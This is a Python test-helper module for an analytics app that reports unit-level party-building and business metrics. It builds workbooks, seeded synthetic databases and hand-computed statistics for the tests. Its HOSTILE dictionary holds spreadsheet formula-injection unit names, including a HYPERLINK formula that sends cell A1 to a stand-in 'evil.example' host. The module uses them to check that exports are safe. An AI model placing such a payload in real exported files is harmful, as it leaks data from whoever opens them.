"""Builders shared by the tests (registry, workbooks, pages, marks, filled databases): imported from here, never
from a test file. Pytest fixtures live in tests/conftest.py; the load-test machinery in tests/fixtures_load.py."""

from __future__ import annotations

import io
import math
import re
import socket
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
from scipy import stats
from streamlit.testing.v1 import AppTest

from analytics.model.catalog import default_metrics
from analytics.periods import parse_strict, to_index
from analytics.reports.marking import ExportMark
from analytics.store.batches import commit
from analytics.store.connection import connect
from analytics.store.metrics import metric_ids
from analytics.store.units import save_units
from ui.widgets import PLAIN_CLASS

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
TIMEOUT = 60  # seconds an AppTest run may take
SERVER_START_SECONDS = 60
OCT = to_index(2026, 10)

UNITS = [
    {"code": "G", "name": "集团", "parent_code": None, "headcount": None},
    {"code": "S1", "name": "一公司", "parent_code": "G", "headcount": 900.0},
    {"code": "S2", "name": "二公司", "parent_code": "G", "headcount": 500.0},
    {"code": "B11", "name": "检修分公司", "parent_code": "S1", "headcount": 300.0},
    {"code": "B12", "name": "一电厂", "parent_code": "S1", "headcount": 600.0},
    {"code": "B21", "name": "检修分公司", "parent_code": "S2", "headcount": 200.0},
    {"code": "B22", "name": "二电厂", "parent_code": "S2", "headcount": 300.0},
]
B13 = {"code": "B13", "name": "三电厂", "parent_code": "S1", "headcount": 150.0}  # added by some builders below

MARK = ExportMark("测试员", pd.Timestamp("2026-11-28 09:30").to_pydatetime())


# ---------------------------------------------------------------- workbooks


def xlsx(rows: list[list[object]], title: str = "党建", extra: dict | None = None, percent: tuple = ()) -> bytes:
    """A workbook whose first sheet holds ``rows`` from A1; ``percent`` lists cells formatted as 0%."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for ref in percent:
        sheet[ref].number_format = "0%"
    for name, more in (extra or {}).items():
        other = book.create_sheet(name)
        for row in more:
            other.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


WIDE = [
    ["2026年10月党建工作月报"],
    [None, None, "党建指标", None, "经营指标"],
    ["序号", "单位编码", "单位名称", "三会一课完成率（%）", "营业收入（万元）", "神秘列"],
    [1, "B11", "检修分公司", 95, "1,234.5"],
    [2, None, "一电厂", "98%", "２０００"],
    [None, None, "合计", None, 3234.5],
]


# ---------------------------------------------------------------- the app, the command line, a server port


def run_page(page: str, lang: str = "zh") -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.query_params["lang"] = lang
    at.run()
    if page != "views/welcome.py":
        at.switch_page(page).run()
    return at


def tables(at: AppTest) -> list:
    """The page's tables in the order shown, plain (``ui.widgets.plain_html``) or grid (``st.dataframe``):
    ``ui.widgets.table`` draws a short table plain and a long one as a grid, so a test should not depend on which."""
    found: list = []

    def walk(node) -> None:
        if getattr(node, "type", None) == "dataframe":
            found.append(node)
            return
        if getattr(node, "type", None) == "html" and f'class="{PLAIN_CLASS}' in node.proto.body:
            found.append(Plain(node.proto.body))
            return
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return found


class Plain(HTMLParser):
    """A plain table as the reader sees it: ``value`` is its texts under its headers, a number cell
    (``class="n"``) read back as a number ("1,200" → 1200, "0.612" → 0.612); ``muted`` whether its rows are grey."""

    def __init__(self, body: str) -> None:
        super().__init__()
        self.body = body
        self.muted = f'class="{PLAIN_CLASS} muted"' in body
        self._heads: list[str] = []
        self._rows: list[list[object]] = []
        self._cell: list[str] | None = None
        self._number = False
        self.feed(body)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tr" and self._heads:
            self._rows.append([])
        if tag in ("th", "td"):
            self._cell, self._number = [], ("class", "n") in attrs

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag not in ("th", "td") or self._cell is None:
            return
        text = "".join(self._cell)
        if tag == "th":
            self._heads.append(text)
        elif self._number and re.fullmatch(r"-?[\d,]+(\.\d+)?", text):
            plain = text.replace(",", "")
            self._rows[-1].append(float(plain) if "." in plain else int(plain))
        else:
            self._rows[-1].append(text)
        self._cell = None

    @property
    def value(self) -> pd.DataFrame:
        return pd.DataFrame(self._rows, columns=self._heads)


def cli(*args: str, db: Path | None = None) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "analytics", *args] + (["--db", str(db)] if db else [])
    return subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=120)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# ---------------------------------------------------------------- one unit's own series, by hand


def hand_lag1(values: list[float]) -> float:
    """The textbook estimator written out with loops: mean over the months present, numerator over the months t
    with t and t + 1 both present, denominator over every month present; negative → 0."""
    present = [v for v in values if not math.isnan(v)]
    m = sum(present) / len(present)
    num = sum(
        (values[t] - m) * (values[t + 1] - m)
        for t in range(len(values) - 1)
        if not math.isnan(values[t]) and not math.isnan(values[t + 1])
    )
    den = sum((v - m) ** 2 for v in present)
    return max(num / den, 0.0)


def hand_test(xs: list[float], ys: list[float], a_x: float, a_y: float) -> dict[str, float]:
    """r, n_eff, t, df, p and the Fisher z CI on n_eff, by hand from complete paired lists."""
    n = len(xs)
    r = float(np.corrcoef(xs, ys)[0, 1])
    n_eff = n * (1 - a_x * a_y) / (1 + a_x * a_y)
    df = n_eff - 2
    t = r * math.sqrt(df / (1 - r**2))
    half = 1.959963984540054 / math.sqrt(n_eff - 3)
    return {
        "r": r,
        "n_eff": n_eff,
        "df": df,
        "t": t,
        "p": 2 * stats.t.sf(abs(t), df),
        "ci_low": math.tanh(math.atanh(r) - half),
        "ci_high": math.tanh(math.atanh(r) + half),
    }


# 24 consecutive months: x moderately autocorrelated (AR(1) 0.5), y weakly (0.4) and partly driven by x
X24 = [11.3, 14.0, 15.8, 14.5, 14.1, 12.1, 10.2, 9.3, 8.7, 12.2, 12.0, 12.2,
       10.8, 9.2, 8.2, 8.4, 11.4, 11.7, 11.0, 11.0, 8.6, 12.8, 10.0, 11.1]  # fmt: skip
Y24 = [7.5, 5.3, 5.4, 5.4, 6.1, 4.4, 4.6, 4.9, 5.1, 4.3, 5.8, 7.3,
       6.5, 5.0, 4.4, 2.7, 5.4, 7.0, 6.6, 3.7, 3.9, 5.8, 4.8, 6.4]  # fmt: skip


# ---------------------------------------------------------------- the deck's database (the `filled` fixture)

DECK_FIRST = to_index(2025, 11)
DECK_MONTHS = 12

HOSTILE = {  # unit names a spreadsheet would run as formulas
    "X1": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "X2": "+1+1",
    "X3": "-2+3",
    "X4": "@SUM(1,2)",
}


PLAIN = {"B13": "三电厂", "B14": "四电厂", "B23": "五电厂", "B24": "六电厂"}  # 12 units: clustered tests need 10


PARTY = ("heart_talks", "three_meetings_rate", "vanguard_posts")
BUSINESS = ("revenue", "quality_pass_rate", "total_profit")
FULL_DECK = "kpis,ranking,quadrant,heatmap,findings,scatter:heart_talks~revenue,lag:heart_talks~revenue,unit:B12"


def _deck_values(rng: np.random.Generator, size: float, t: int) -> dict[str, float]:
    talks = float(rng.poisson(20 * size))
    return {
        "heart_talks": talks,
        "three_meetings_rate": float(np.clip(90 + rng.normal(0, 3), 0, 100)),
        "vanguard_posts": float(rng.integers(3, 12)),
        "revenue": round(1000 * size + 40 * talks + rng.normal(0, 60), 2),  # planted: talks move with revenue
        "quality_pass_rate": float(np.clip(96 + rng.normal(0, 1), 0, 100)),
        "total_profit": round(80 * size + rng.normal(0, 10) + t, 2),
    }


def fill_deck(db: Path) -> Path:
    """The small registry plus four branches with formula-like names and four plain ones; 12 months of six metrics
    for twelve units."""
    extra = [{"code": code, "name": name, "parent_code": "S2", "headcount": 100.0} for code, name in HOSTILE.items()]
    extra += [{"code": code, "name": name, "parent_code": "S1", "headcount": 200.0} for code, name in PLAIN.items()]
    rng = np.random.default_rng(7)
    with connect(db) as con:
        save_units(con, extra)
        uid = dict(con.execute("SELECT code, uid FROM units").fetchall())
        mid = metric_ids(con)
        rows = []
        for i, unit in enumerate(("B11", "B12", "B21", "B22", *HOSTILE, *PLAIN)):
            for t in range(DECK_MONTHS):
                for metric, value in _deck_values(rng, 1 + i / 4, t).items():
                    rows.append((uid[unit], DECK_FIRST + t, mid[metric], value))
        staged = pd.DataFrame(rows, columns=["uid", "period", "mid", "value"])
        commit(con, staged, [], "test")
    return db


# ---------------------------------------------------------------- the unit profile pages' database

PAGE_METRICS = {  # code: (centre, spread) per unit-month, inside every valid range
    "three_meetings_rate": (90, 6), "theme_party_days": (8, 3), "violations": (1, 1), "vanguard_posts": (20, 5),
    "revenue": (3000, 800), "quality_pass_rate": (97, 1.5), "debt_asset_ratio": (60, 6), "total_profit": (300, 90),
}  # fmt: skip
PAGE_MONTHS = [f"2025-{m:02d}" for m in range(1, 13)]
PAGE_UNITS = ("B11", "B12", "B21", "B22", "B13")  # B13 last: the four others draw the same values without it
PAGE_HEADS = {u["code"]: u["headcount"] for u in [*UNITS, B13] if u["headcount"]}


def fill_profile(path: Path, units: tuple[str, ...] = PAGE_UNITS[:4]) -> Path:
    """The conftest registry and B13: the branches (by default the conftest's four, one short of the index's five)
    × 12 months × 8 metrics of seeded values (one batch)."""
    rng = np.random.default_rng(20261128)
    with connect(path) as con:
        save_units(con, [*UNITS, B13])
        uid = dict(con.execute("SELECT code, uid FROM units").fetchall())
        mid = metric_ids(con)
        rows = [
            (uid[u], parse_strict(p), mid[m], round(max(0.0, centre + spread * rng.standard_normal()), 2))
            for u in units
            for p in PAGE_MONTHS
            for m, (centre, spread) in PAGE_METRICS.items()
        ]
        rows = [(a, b, c, min(v, 100.0) if c in (mid["quality_pass_rate"],) else v) for a, b, c, v in rows]
        commit(con, pd.DataFrame(rows, columns=["uid", "period", "mid", "value"]), [], "test")
    return path


# ---------------------------------------------------------------- the correlation page's database (planted relations)

CORRELATION_EXTRA = {f"B{s}{i}": (f"S{s}", 150.0 + 50 * i + 40 * s) for s in (1, 2) for i in range(3, 7)}  # 8 more
CORRELATION_BRANCHES = {"B11": 300.0, "B12": 600.0, "B21": 200.0, "B22": 300.0} | {
    code: h for code, (_, h) in CORRELATION_EXTRA.items()
}
CORRELATION_MONTHS = 24
CORRELATION_FIRST = to_index(2024, 11)
SPARSE = "new_members"  # three values in all: every cell with it is insufficient


def synthetic_values(seed: int = 5) -> pd.DataFrame:
    """Long (unit, period, metric, value) rows for every catalog metric of the twelve branches over 24 months.

    Levels of amounts and counts scale with headcount; month-to-month swings are independent noise of the same
    size in every unit (so the within-unit t test is exact) except
    that quality_pass_rate follows theme_party_days inside each unit (same month), and total_profit
    follows heart_talks two months later. new_members has 3 values only.
    """
    rng = np.random.default_rng(seed)
    rows = []
    months, first = CORRELATION_MONTHS, CORRELATION_FIRST
    for unit, heads in CORRELATION_BRANCHES.items():
        shock, talks = rng.normal(size=months), rng.normal(size=months + 2)
        for metric in default_metrics():
            if metric.code == SPARSE:
                continue
            noise = rng.normal(size=months)
            values = 80 + 5 * noise if metric.unit == "%" else heads / 10 + 6 * noise
            if metric.code == "theme_party_days":
                values = heads / 50 + 2 * shock
            if metric.code == "quality_pass_rate":
                values = 97 + shock + 0.3 * noise
            if metric.code == "heart_talks":
                values = heads + 40 * talks[2:]
            if metric.code == "total_profit":
                values = 2 * heads + 40 * talks[:months] + 15 * noise
            rows += [(unit, first + t, metric.code, round(float(v), 3)) for t, v in enumerate(values)]
    rows += [("B11", first + t, SPARSE, 2.0) for t in range(3)]
    return pd.DataFrame(rows, columns=["unit", "period", "metric", "value"])


def fill_correlation(db: Path) -> None:
    """Commit ``synthetic_values`` into the test database as one batch."""
    frame = synthetic_values()
    with connect(db) as con:
        save_units(
            con,
            [
                {"code": c, "name": f"分公司{c}", "parent_code": p, "headcount": h}
                for c, (p, h) in CORRELATION_EXTRA.items()
            ],
        )
        uids = dict(con.execute("SELECT code, uid FROM units").fetchall())
        mids = metric_ids(con)
        staged = pd.DataFrame(
            {
                "uid": frame["unit"].map(uids).astype("int64"),
                "period": frame["period"].astype("int64"),
                "mid": frame["metric"].map(mids).astype("int64"),
                "value": frame["value"].astype("float64"),
            }
        )
        commit(con, staged, [], "test")


# ---------------------------------------------------------------- the overview page's database

# branch → j in _overview_value(): the conftest registry's four branches and B13, added so that the index has its
# five units
OVERVIEW_BRANCHES = {"B11": 0, "B12": 1, "B21": 2, "B22": 3, "B13": 5}
OVERVIEW_MONTHS = 14  # 2025-01 … 2026-02
SILENT = "B22"  # reports nothing in the last month
PARTIAL = ("B13", "heart_talks")  # B13 leaves out one metric in the last month: incomplete, not ranked


def _overview_value(metric: str, j: int, k: int) -> float:
    """A deterministic value of branch j (0–5) in month k (0 = 2025-01)."""
    return {
        "revenue": 1000.0 * (j + 1) + 10 * k,
        "total_profit": 100.0 * (j + 1) + 5 * (k % 4),
        "three_meetings_rate": 90.0 + j + (k % 3),
        "vanguard_posts": 3.0 + j,
        "quality_pass_rate": 95.0 + (j + k) % 4,
        "safety_accidents": float((j + k) % 2),
        "heart_talks": 20.0 + 3 * j + k % 5,
        "labour_productivity": 30.0 + 2 * j + (k % 6),
    }[metric]


def fill_group(db: Path, branches: tuple[str, ...] = tuple(OVERVIEW_BRANCHES)) -> None:
    """Commit 14 months of 8 metrics for the branches (B13 added to the conftest registry), one batch per month."""
    with connect(db) as con:
        if "B13" in branches:
            save_units(con, [B13])
        uid = dict(con.execute("SELECT code, uid FROM units").fetchall())
        mid = metric_ids(con)
        metrics = ("revenue", "total_profit", "three_meetings_rate", "vanguard_posts", "quality_pass_rate")
        metrics += ("safety_accidents", "heart_talks", "labour_productivity")
        for k in range(OVERVIEW_MONTHS):
            rows = [
                (uid[unit], to_index(2025, 1) + k, mid[m], _overview_value(m, OVERVIEW_BRANCHES[unit], k))
                for unit in branches
                for m in metrics
                if not (k == OVERVIEW_MONTHS - 1 and (unit == SILENT or (unit, m) == PARTIAL))
            ]
            staged = pd.DataFrame(rows, columns=["uid", "period", "mid", "value"]).astype(
                {"uid": "int64", "period": "int64", "mid": "int64", "value": "float64"}
            )
            commit(con, staged, [], "test")
